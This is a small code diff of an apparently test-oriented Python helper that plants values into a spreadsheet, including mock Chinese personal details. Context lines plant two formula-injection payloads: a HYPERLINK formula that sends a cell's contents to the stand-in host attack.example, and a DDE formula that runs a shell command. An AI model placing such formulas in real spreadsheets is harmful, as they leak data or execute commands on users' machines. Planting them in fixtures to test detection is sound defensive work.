@@ -238,7 +238,7 @@ def _plant_township(sheet: Worksheet, people: Sequence[Child]) -> tuple[Planted,
     sheet.cell(first + 3, 3, "男" if people[3].girl else "女")
     sheet.cell(first + 4, 20, "头晕目眩")
     sheet.cell(first + 5, 18, "去年年底")
-    sheet.cell(first + 8, 5, None)
+    sheet.cell(first + 8, 5).value = None
     sheet.cell(first + 9, 2, '=HYPERLINK("http://attack.example/"&F14,"模拟")')
     sheet.cell(first + 10, 21, "=cmd|' /C calc'!A0")
     found = (
